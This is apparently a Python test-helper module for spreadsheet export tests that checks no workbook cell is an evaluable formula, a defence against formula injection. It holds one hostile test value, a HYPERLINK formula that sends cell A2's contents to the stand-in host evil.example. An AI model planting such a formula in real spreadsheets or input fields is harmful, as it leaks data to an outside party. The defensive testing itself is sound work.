"""Checks shared by the export tests: no cell of a workbook is a formula or text a spreadsheet would run as one."""
import io

from openpyxl import load_workbook

from dangjian.core.cells import FORMULA_STARTS

# A member, unit or title named like this must reach Excel as text (issue 12, finding 3).
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'


def assert_no_formulas(content: bytes) -> list:
    """Every cell of every sheet, after checking none would be evaluated; returns the text cells."""
    texts = []
    workbook = load_workbook(io.BytesIO(content))  # not read-only: data_type tells formulas apart
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                    texts.append(cell.value)
    return texts
